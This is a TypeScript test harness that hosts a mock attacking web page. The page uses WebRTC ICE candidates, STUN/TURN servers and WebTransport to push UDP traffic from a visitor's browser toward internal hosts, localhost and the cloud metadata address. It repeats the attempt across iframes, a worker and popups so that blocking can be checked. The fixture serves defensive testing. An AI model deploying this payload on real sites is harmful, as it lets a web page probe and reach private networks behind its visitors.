import { createSocket } from 'node:dgram';
import { EventEmitter, once } from 'node:events';
import { createServer } from 'node:http';

/** Where the attack sends to: an internal host, this machine, a cloud's metadata service. */
export const canaries = ['10.0.0.1', '127.0.0.1', '169.254.169.254'] as const;
export const site = '93.184.216.34';
export const otherSite = '93.184.216.35';
const port = 3478;

/** Windows that the page tries to open. */
export const windows = 6;

export type UdpAttack = {
  /** Counted since the last call: datagrams per canary, popups that loaded, realms in which WebRTC is there. */
  take(): { readonly hits: Readonly<Record<string, number>>; readonly popups: number; readonly exposed: string[] };
  /** Resolves when the page has finished its attempts, and what it sent has arrived. */
  untilTried(): Promise<void>;
  untilEachHit(): Promise<void>;
};

/** The attacking site and the canaries, in a network namespace that has their addresses. */
export async function startUdpAttack(): Promise<UdpAttack> {
  let hits: Record<string, number> = {};
  let requests: URL[] = [];
  const events = new EventEmitter();
  const until = async (isMet: () => boolean): Promise<void> => {
    while (!isMet()) await once(events, 'event');
  };
  for (const address of canaries) {
    const socket = createSocket('udp4').on('message', (_datagram, from) => {
      const name = from.port === probe.address().port ? 'probe' : address;
      hits[name] = (hits[name] ?? 0) + 1;
      events.emit('event');
    });
    socket.bind(port, address);
    await once(socket, 'listening');
  }
  const probe = createSocket('udp4');
  probe.bind(0, site);
  await once(probe, 'listening');
  for (const address of [site, otherSite]) {
    const server = createServer((request, response) => {
      const url = new URL(request.url ?? '/', `http://${address}`);
      requests.push(url);
      response.setHeader('access-control-allow-origin', '*');
      response.setHeader('content-type', 'text/html');
      response.end(documents[url.pathname] ?? '');
      events.emit('event');
    });
    server.listen(80, address);
    await once(server, 'listening');
  }
  return {
    take() {
      const { probe: _probe, ...counted } = hits;
      const popups = requests.filter(({ pathname }) => pathname === '/popup').length;
      const saw = requests.filter(({ pathname }) => pathname === '/saw').map(({ searchParams }) => searchParams);
      const exposed = saw.filter((seen) => seen.get('names') !== '').map((seen) => seen.get('where') ?? '');
      hits = {};
      requests = [];
      return { hits: counted, popups, exposed: [...new Set(exposed)].toSorted() };
    },
    async untilTried() {
      const realms = ['page', 'blank', 'srcdoc', 'other-site', 'worker'];
      const saw = (where: string) => requests.some(({ searchParams }) => searchParams.get('where') === where);
      await until(() => realms.every(saw) && requests.some(({ pathname }) => pathname === '/tried'));
      // Sent after all that the page sent: once these have arrived, that has, too.
      for (const address of canaries) probe.send('probe', port, address);
      await until(() => hits['probe'] === canaries.length);
    },
    async untilEachHit() {
      await until(() => canaries.every((address) => (hits[address] ?? 0) > 0));
    },
  };
}

const attack = `
const canaries = ${JSON.stringify(canaries)};
const report = (path) => fetch('http://${site}' + path).catch(() => undefined);
const saw = (where, scope) => {
  const names = Object.getOwnPropertyNames(scope).filter((name) => /^(webkit)?RTC.*Connection$/.test(name));
  return report('/saw?where=' + where + '&names=' + names);
};
const connections = [];
async function call(scope) {
  try {
    const iceServers = canaries.flatMap((address) => [
      { urls: 'stun:' + address + ':${port}' },
      { urls: 'turn:' + address + ':${port}', username: 'a', credential: 'b' },
    ]);
    const pair = [new scope.RTCPeerConnection({ iceServers }), new scope.RTCPeerConnection()];
    connections.push(...pair);
    pair[0].createDataChannel('a');
    await pair[0].setLocalDescription(await pair[0].createOffer());
    await pair[1].setRemoteDescription(pair[0].localDescription);
    await pair[1].setLocalDescription(await pair[1].createAnswer());
    await pair[0].setRemoteDescription(pair[1].localDescription);
    for (const address of canaries) {
      const candidate = 'candidate:1 1 udp 2122260223 ' + address + ' ${port} typ host generation 0';
      await pair[0].addIceCandidate({ candidate, sdpMid: '0', sdpMLineIndex: 0 });
    }
    if (pair[0].iceGatheringState !== 'complete')
      await Promise.race([new Promise((done) => pair[0].addEventListener('icegatheringstatechange', () => pair[0].iceGatheringState === 'complete' && done())), new Promise((done) => setTimeout(done, 2000))]);
  } catch {}
  try {
    await Promise.race([new scope.WebTransport('https://10.0.0.1:${port}/').ready, new Promise((done) => setTimeout(done, 2000))]);
  } catch {}
}`;

const documents: Readonly<Record<string, string>> = {
  '/': `<!doctype html><html lang="en"><title>A page</title><h1>A page</h1><p>${'With words to read. '.repeat(40)}</p>
    <script>${attack}
    function openWindow(number) {
      const url = '/popup?' + number;
      if (number % 3 === 0) return window.open(url, '_blank', number % 2 ? 'noopener' : '');
      const element = document.createElement(number % 3 === 1 ? 'form' : 'a');
      Object.assign(element, { target: '_blank', method: 'post', action: url, href: url, rel: number % 2 ? 'noopener' : '' });
      document.body.append(element);
      return number % 3 === 1 ? element.submit() : element.click();
    }
    (async () => {
      saw('page', window);
      const blank = document.body.appendChild(document.createElement('iframe'));
      saw('blank', blank.contentWindow);
      const calls = [call(window), call(blank.contentWindow)];
      for (const [where, source] of [['srcdoc', { srcdoc: '<script src="/frame?srcdoc"></' + 'script>' }], ['other-site', { src: 'http://${otherSite}/frame-page' }]]) {
        document.body.append(Object.assign(document.createElement('iframe'), source));
      }
      new Worker(URL.createObjectURL(new Blob([${JSON.stringify(attack)} + ';saw("worker", self)'])));
      for (let number = 1; number <= ${windows}; number += 1) {
        openWindow(number);
        calls.push(call(window));
        await new Promise((done) => setTimeout(done, 100));
      }
      await Promise.all(calls);
      report('/tried');
    })();
    </script>`,
  '/popup': `<!doctype html><title>A popup</title><script>${attack}; saw('popup', window); call(window);</script>`,
  '/frame': `${attack}; saw('srcdoc', window); call(window);`,
  '/frame-page': `<!doctype html><title>A frame</title><script>${attack}; saw('other-site', window); call(window);</script>`,
};
